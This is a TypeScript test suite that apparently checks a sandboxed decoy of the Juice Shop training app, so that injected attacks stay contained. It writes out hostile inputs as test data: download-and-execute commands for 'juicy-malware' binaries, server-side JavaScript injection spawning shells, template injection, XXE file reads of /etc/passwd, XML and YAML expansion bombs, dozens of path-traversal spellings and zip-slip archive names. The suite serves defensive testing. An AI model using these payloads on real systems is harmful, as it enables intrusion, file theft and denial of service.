import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type DecoyApp, startDecoyApp } from './decoy-app.ts';

let shop: DecoyApp;
const requested: string[] = [];

beforeAll(async () => {
  shop = await startDecoyApp();
  shop.app.server.server.prependListener('request', (request) => requested.push(request.url ?? ''));
});
beforeEach(() => {
  shop.decoy.reset();
  requested.length = 0;
});
afterAll(() => shop.stop());

const evaluated = async (code: string) => {
  const result = await shop.decoy.evaluateCode(code);
  return result.outcome === 'value' ? result.value : result;
};

describe('published payloads', () => {
  const programs = [
    'https://github.com/J12934/juicy-malware/blob/master/juicy_malware_linux_amd_64?raw=true',
    'https://github.com/juice-shop/juicy-malware/raw/master/juicy_malware_macos_64',
  ];
  test.each([
    ...programs.map((url) => `wget -O malware ${url} && chmod +x malware && ./malware`),
    `curl -sL ${programs[0]} -o m; chmod 755 m; ./m`,
    `powershell -c "iwr ${programs[1]} -OutFile m.exe; Start-Process .\\\\m.exe"`,
  ])('%s', async (command) => {
    const code = `global.process.mainModule.require('child_process').exec('${command}')`;
    expect(await evaluated(code)).toBe('[object Object]');
    await shop.decoy.idle();
    expect(requested).toEqual([`/solve/challenges/server-side?key=${shop.content.keys.serverSideKey}`]);
  });

  test.each([
    ['1+1', '2'],
    ["require('fs').readFileSync('/etc/hostname')", expect.stringMatching(/^juice-shop-/)],
    [
      "process.mainModule.require('child_process').execSync('id && whoami').toString()",
      expect.stringContaining('juicer\n'),
    ],
    ["this.constructor.constructor('return process')().platform", 'linux'],
    [
      "process.mainModule.constructor._load('child_process').spawnSync('sh', ['-c', 'echo $0 $1', 'it\\'s', 'me']).stdout",
      "it's me\n",
    ],
    [
      "require('fs').readdirSync('/home').concat(require('path').join('/a', '../b'), require('os').userInfo().uid).join()",
      'juicer,/b,1001',
    ],
    ["process.cwd = () => 'x'; require('path').resolve('y')", '/x/y'],
    [
      "Buffer.from('aMO8', 'base64') + Buffer.from('hü').toString('hex') + Buffer.from('ü').toString('base64')",
      'hü68c3bcw7w=',
    ],
    ["require('/juice-shop/build/lib/insecurity').hash('x')", '9dd4e461268c8034f5c8564e155c67a6'],
    ["require('util').inspect({ a: [1, 'b'] })", "{ a: [ 1, 'b' ] }"],
    [
      "require('net')",
      expect.objectContaining({ outcome: 'threw', message: expect.stringContaining("Cannot find module 'net'") }),
    ],
    ['0', undefined],
    ['nobody', expect.objectContaining({ outcome: 'threw', name: 'ReferenceError' })],
  ])('%s', async (code, value) => {
    expect(await evaluated(code)).toEqual(value);
  });

  test('callbacks and timers run afterwards, and what they write is there', async () => {
    await evaluated(
      `require('child_process').exec('id', (error, out) => setTimeout(() => require('fs').writeFileSync('ftp/x.md', out), 9))`,
    );
    await shop.decoy.idle();
    expect(shop.decoy.files.readText('ftp/x.md')).toMatch(/^uid=1001\(juicer\)/);
  });

  test('requests, streams and promises complete afterwards, too', async () => {
    const address = 'http://localhost:3000/rest/admin/application-version';
    await evaluated(
      `require('http').get('${address}', (answer) => answer.pipe(require('fs').createWriteStream('ftp/http.md')));
       require('fs').promises.readFile('/etc/hostname', 'utf8').then((name) => require('fs').writeFileSync('ftp/name.md', name));
       fetch('${address}').then((answer) => answer.json()).then(({ version }) => require('fs').appendFileSync('ftp/fetch.md', version))`,
    );
    await shop.decoy.idle();
    expect(shop.decoy.files.readText('ftp/http.md')).toMatch(/^\{"version":/);
    expect(shop.decoy.files.readText('ftp/name.md')).toMatch(/^juice-shop-/);
    expect(shop.decoy.files.readText('ftp/fetch.md')).toMatch(/^\d+\.\d+/);
  });

  test('names are Pug, with the decoy behind it', async () => {
    expect(await shop.decoy.renderPug('p a#{7*7} #{global.process.pid}', {})).toMatchObject({ value: '<p>a49 1</p>' });
  });

  test('a layout shows the start of a file, and the error for a missing one says where it was looked for', async () => {
    expect(await shop.decoy.renderLayout('../package.json', '', {})).toMatchObject({
      value: expect.stringContaining('"name": "juice-shop"'),
    });
    expect(await shop.decoy.renderLayout('/etc/passwd', '', {})).toMatchObject({
      outcome: 'noFile',
      error: { message: "ENOENT: no such file or directory, open '/juice-shop/views//etc/passwd.hbs'" },
    });
  });
});

describe('documents', () => {
  const entity = (address: string) => Buffer.from(`<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]><x>&e;</x>`);
  const flat = (length: number, count: number) =>
    Buffer.from(`<!DOCTYPE x [<!ENTITY a "${'A'.repeat(length)}">]><x>${'&a;'.repeat(count)}</x>`);
  const nested = `<!DOCTYPE x [<!ENTITY a0 "lol">${[1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => `<!ENTITY a${n} "${`&a${n - 1};`.repeat(10)}">`).join('')}]><x>&a9;</x>`;
  const aliases = (levels: number) =>
    Buffer.from(
      Array.from(
        { length: levels },
        (_, n) => `a${n}: &a${n} [${Array(n === 0 ? 15 : 10).fill(n === 0 ? 'lol' : `*a${n - 1}`)}]`,
      ).join('\n'),
    );

  test('XML reads the decoy’s files, of either system', async () => {
    expect(await shop.decoy.readers.xml(entity('file:///etc/passwd'))).toMatchObject({
      text: expect.stringContaining('root:x:0:0:'),
    });
    expect(await shop.decoy.readers.xml(entity('file:///C:/Windows/system.ini'))).toMatchObject({
      text: expect.stringContaining('; for 16-bit app support'),
    });
    expect(await shop.decoy.readers.xml(entity(`http://localhost:3000/`))).toMatchObject({
      text: expect.stringContaining('<x/>'),
    });
    expect(requested).toEqual([]);
  });

  test('XML that grows is answered as decision 31 says', async () => {
    const loop = { outcome: 'failed', message: expect.stringContaining('Detected an entity reference loop') };
    expect(await shop.decoy.readers.xml(Buffer.from(nested))).toEqual(loop);
    expect(await shop.decoy.readers.xml(flat(19_200, 756))).toEqual(loop);
    const startedAt = performance.now();
    expect(await shop.decoy.readers.xml(flat(600, 25_000))).toEqual({ outcome: 'timedOut' });
    expect(performance.now() - startedAt).toBeGreaterThan(1900);
  });

  test('YAML becomes JSON; a bomb of nine levels times out, one of seven does not', async () => {
    expect(await shop.decoy.readers.yaml(Buffer.from('a: [1, x]'))).toEqual({ outcome: 'read', text: '{"a":[1,"x"]}' });
    expect(await shop.decoy.readers.yaml(aliases(7))).toMatchObject({ outcome: 'read' });
    expect(await shop.decoy.readers.yaml(aliases(9))).toEqual({ outcome: 'timedOut' });
    expect(await shop.decoy.readers.yaml(Buffer.from('a: ['))).toMatchObject({ outcome: 'failed' });
    const withFunction = Buffer.from('x: !!js/function "function () {}"');
    expect(await shop.decoy.readers.yaml(withFunction)).toMatchObject({ outcome: 'failed' });
  });
});

describe('sessions', () => {
  test('keep the effects of calls, and survive the loss of the interpreter', async () => {
    const session = shop.decoy.openSession('var n = 40; function process() { return n; }');
    await session.evaluate('n += 2');
    expect(await session.evaluate('process()', 'never')).toMatchObject({ value: 42 });
    const other = shop.decoy.openSession('var n = 1');
    expect(await other.evaluate('n', 'never')).toMatchObject({ value: 1 });
    expect(await session.evaluate('process()', 'never')).toMatchObject({ value: 42 });
    expect(await session.evaluate('process = null; process()')).toMatchObject({
      outcome: 'threw',
      message: 'not a function',
    });
    session.restart();
    expect(await session.evaluate('process()')).toMatchObject({ value: 40 });
  });
});

describe('a real file of the machine stays out of reach', () => {
  const folder = mkdtempSync(join(tmpdir(), 'juice-range-decoy-'));
  const canary = join(folder, 'canary.txt');
  const secret = `CANARY${process.pid}`;
  writeFileSync(canary, secret);
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  const up = '../'.repeat(12);
  const plain = canary.slice(1);
  const spellings = [
    ...[
      canary,
      `/${canary}`,
      `${up}${plain}`,
      `/${up}${plain}`,
      `./${up}${plain}`,
      `ftp/${up}${plain}`,
      `/proc/self/root${canary}`,
    ],
    ...[
      `/proc/1/root${canary}`,
      `/proc/self/cwd/${up}${plain}`,
      `/juice-shop/../..${canary}`,
      `file://${canary}`,
      `file:${canary}`,
    ],
    ...[
      `\\${plain.replaceAll('/', '\\')}`,
      `..\\..\\..\\${plain.replaceAll('/', '\\')}`,
      `C:${canary}`,
      `C:\\..\\..${canary}`,
      `c:/../../${plain}`,
    ],
    ...[
      `\\\\?\\${canary}`,
      `\\\\.\\${canary}`,
      `//localhost${canary}`,
      `\\\\localhost\\c$${canary}`,
      `//?/C:${canary}`,
      `${canary}\0`,
    ],
    ...[
      `${canary}\0.md`,
      `x\0/${canary}`,
      encodeURIComponent(canary),
      `${encodeURIComponent(up)}${plain}`,
      `%2e%2e%2f%2e%2e%2f${plain}`,
    ],
    ...[
      `..%c0%af..%c0%af${plain}`,
      `..%252f..%252f${plain}`,
      `....//....//${plain}`,
      `..;/..;/${plain}`,
      `~/../..${canary}`,
      `$PWD${canary}`,
    ],
    ...[
      `/dev/fd/3/../../..${canary}`,
      `/tmp/../..${canary}`,
      `/.${canary}`,
      `/./././${plain}`,
      `${'/'.repeat(50)}${plain}`,
      `${canary}/`,
    ],
    ...[
      `${canary}/.`,
      `/etc/passwd/../../${plain}`,
      `${'a/../'.repeat(300)}${up}${plain}`,
      `${up}${plain}?x`,
      `${up}${plain}#x`,
    ],
  ];

  test.each(spellings)('as %j', async (path) => {
    const { decoy } = shop;
    expect(decoy.files.has(path)).toBe(false);
    const quoted = JSON.stringify(path);
    const shell = JSON.stringify(`cat '${path.replaceAll("'", '')}'`);
    const code = `[() => require('fs').readFileSync(${quoted}), () => require('child_process').execSync(${shell}),
      () => require(${quoted})].map((attempt) => { try { return String(attempt()); } catch (error) { return 'none'; } }).join()`;
    expect(await evaluated(code)).toBe('none,none,none');
    const layout = await decoy.renderLayout(path, '', {});
    expect(JSON.stringify(layout)).not.toContain(secret);
    const address = path.replace(/[<>&"\0]/g, '');
    const read = await decoy.readers.xml(Buffer.from(`<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]><x>&e;</x>`));
    expect(JSON.stringify(read)).not.toContain(secret);
  });

  test('to archives: their entries end up in the decoy, if anywhere, whatever their names', async () => {
    const names = [...spellings.filter((name) => !name.includes('\0') && name.length < 200), '../../ftp/legal.md'];
    const archive = Buffer.from(zipSync(Object.fromEntries(names.map((name) => [name, Buffer.from('slipped')]))));
    const { entries } = await shop.decoy.readers.unpackZip(archive, '/juice-shop/uploads/complaints/');
    expect(entries).toHaveLength(new Set(names).size);
    expect(entries.find(({ path }) => path === '/juice-shop/ftp/legal.md')).toMatchObject({ result: 'written' });
    expect(shop.decoy.files.readText('ftp/legal.md')).toBe('slipped');
    const { readFileSync } = await import('node:fs');
    expect(readFileSync(canary, 'utf8')).toBe(secret);
  });
});
